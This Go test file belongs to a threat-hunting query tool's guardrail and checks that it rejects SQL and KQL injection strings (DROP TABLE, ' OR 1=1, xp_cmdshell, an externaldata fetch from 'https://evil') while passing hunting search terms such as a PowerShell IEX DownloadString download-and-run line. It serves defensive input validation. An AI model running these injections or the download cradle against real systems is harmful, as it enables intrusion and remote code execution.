package guardrail

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/roach88/huntql/internal/qerr"
)

func TestScanDangerousPatterns_Rejects(t *testing.T) {
	g := New(Options{})
	for _, in := range []string{
		"x'; DROP TABLE users",
		"foo; delete from logs",
		"a UNION ALL SELECT password",
		"admin'--",
		"' OR 1=1",
		"cmd.exe | externaldata (x:string) [@\"https://evil\"]",
		"powershell.exe\n| project secrets",
		"exec xp_cmdshell 'dir'",
		"value /* hidden */ more",
		".drop table DeviceProcessEvents ",
		"nul\x00byte",
	} {
		err := g.ScanDangerousPatterns(in)
		assert.Equal(t, qerr.KindDangerousPattern, qerr.KindOf(err), "%q", in)
	}
}

func TestScanDangerousPatterns_AllowsHuntingValues(t *testing.T) {
	g := New(Options{})
	for _, in := range []string{
		"powershell.exe",
		"-EncodedCommand JABzAD0ATgBlAHcA",
		`"C:\Program Files\app.exe" --silent --install`,
		"cmd.exe /c whoami | findstr admin",
		"IEX (New-Object Net.WebClient).DownloadString('http://x')",
		"find processes that delete shadow copies with vssadmin",
		"https://pastebin.com/raw/abc",
		"203.0.113.7",
		"show network connections in the last 24 hours",
	} {
		assert.NoError(t, g.ScanDangerousPatterns(in), "%q", in)
	}
}

func TestScanDangerousPatterns_DetailTruncated(t *testing.T) {
	g := New(Options{})
	err := g.ScanDangerousPatterns("x; DROP " + string(make([]byte, 100)))

	qe, ok := qerr.As(err)
	if assert.True(t, ok) {
		assert.LessOrEqual(t, len(qe.Details["match"]), 80)
	}
}

func TestValidateIdentifier(t *testing.T) {
	for _, ok := range []string{"DeviceProcessEvents", "tgt.process.name", "_time", "process-search", "Device Process"} {
		assert.NoError(t, ValidateIdentifier(ok), ok)
	}
	for _, bad := range []string{"a'b", "x;y", "t|where", "f(x)", "a=b", "line\nbreak"} {
		err := ValidateIdentifier(bad)
		assert.Equal(t, qerr.KindDangerousPattern, qerr.KindOf(err), bad)
	}
}
